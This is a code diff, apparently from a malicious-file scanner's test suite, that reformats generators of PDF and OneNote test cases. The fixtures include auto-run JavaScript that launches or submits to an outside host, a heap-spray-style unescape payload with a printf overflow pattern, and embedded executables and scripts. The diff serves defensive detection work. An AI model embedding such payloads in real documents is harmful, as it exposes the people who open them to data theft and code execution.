@@ -32,10 +32,14 @@ def _script(text: str) -> Dictionary:
 
 def _scripts() -> list[Case]:
     def stream(document: Any) -> None:
-        document.Root["/OpenAction"] = Dictionary(S=Name.JavaScript, JS=Stream(document, b"app.launchURL('http://files.example.net', true);"))
+        document.Root["/OpenAction"] = Dictionary(
+            S=Name.JavaScript, JS=Stream(document, b"app.launchURL('http://files.example.net', true);")
+        )
 
     def named(document: Any) -> None:
-        document.Root["/Names"] = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script("this.submitForm('http://files.example.net')")])))
+        document.Root["/Names"] = Dictionary(
+            JavaScript=Dictionary(Names=Array([String("a"), _script("this.submitForm('http://files.example.net')")]))
+        )
 
     def on_page(document: Any) -> None:
         document.pages[0]["/AA"] = Dictionary(O=_script("var a = unescape('%u9090%u9090%u9090%u9090%u4141'); util.printf('%45000f', 1)"))
@@ -105,7 +109,9 @@ def _broken() -> list[Case]:
         (loose(catalogue, b"<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>", b"<</Type/EmbeddedFile>>"), "pdf.embedded-file", MEDIUM),
         (b"%PDF-1.3\n<</AA<</O<</S/SubmitForm/F(http://files.example.net)>>>>>>", "pdf.launch", MEDIUM),
     ]
-    return [single("PDF: broken on purpose", f"Broken {n}.pdf", body, finding, least=least) for n, (body, finding, least) in enumerate(files)]
+    return [
+        single("PDF: broken on purpose", f"Broken {n}.pdf", body, finding, least=least) for n, (body, finding, least) in enumerate(files)
+    ]
 
 
 def _locked() -> list[Case]:
@@ -123,7 +129,10 @@ def _notebooks() -> list[Case]:
         [("a.zip", zip_of({"a.js": b"1"}))],
         [("note.wsf", b"<job><script language='JScript'>1</script></job>"), ("", jpeg())],
     ]
-    return [single("notebook that carries a file", f"Notes {n}.one", notebook(*files), "onenote.embedded-file") for n, files in enumerate(contents)]
+    return [
+        single("notebook that carries a file", f"Notes {n}.one", notebook(*files), "onenote.embedded-file")
+        for n, files in enumerate(contents)
+    ]
 
 
 def _help() -> list[Case]:
